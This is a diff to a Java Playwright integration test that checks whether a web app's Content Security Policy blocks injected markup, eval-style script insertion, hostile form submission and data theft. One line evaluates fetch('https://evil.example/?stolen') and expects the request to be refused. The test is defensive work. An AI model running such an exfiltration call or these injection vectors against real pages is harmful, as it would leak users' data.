@@ -66,6 +66,11 @@ class ContentPolicyIT {
                 .setBody(response.text().replace("<head>", "<head>" + MARKUP)));
     }
 
+    /** The browser's own way to wait calls eval later, which the page refuses. */
+    private static void await(Page page, String condition) {
+        page.waitForCondition(() -> Boolean.TRUE.equals(page.evaluate("Boolean(" + condition + ")")));
+    }
+
     private static List<?> violations(Page page) {
         return (List<?>) page.evaluate("window.violations");
     }
@@ -77,10 +82,10 @@ class ContentPolicyIT {
             page.addInitScript(WATCH);
             page.route(system.url() + "/health", ContentPolicyIT::inject);
             page.navigate(system.url() + "/health");
-            page.waitForFunction("document.querySelector('#app h1')");
+            await(page, "document.querySelector('#app h1')");
             page.evaluate("document.getElementById('evil').click()");
             page.evaluate("document.getElementById('out').requestSubmit()");
-            page.waitForFunction("window.violations.includes('form-action')");
+            await(page, "window.violations.includes('form-action')");
 
             assertThat(page.evaluate("window.attacked")).isNull();
             assertThat(page.url()).isEqualTo(system.url() + "/health");
@@ -105,12 +110,12 @@ class ContentPolicyIT {
             Page page = window.page();
             page.addInitScript(WATCH);
             page.navigate(system.url());
-            page.waitForFunction("document.querySelector('#app h1, #app .state')");
+            await(page, "document.querySelector('#app h1, #app .state')");
             assertThat(page.evaluate(INSERT))
                     .asInstanceOf(LIST)
                     .contains(
                             "innerHTML", "script text", "script src", "srcdoc", "write", "eval", "Function", "policy");
-            page.waitForFunction("window.violations.length > 3");
+            await(page, "window.violations.length > 3");
             assertThat(page.evaluate("window.attacked")).isNull();
             assertThat(page.evaluate("fetch('https://evil.example/?stolen').then(() => 'sent', () => 'refused')"))
                     .isEqualTo("refused");
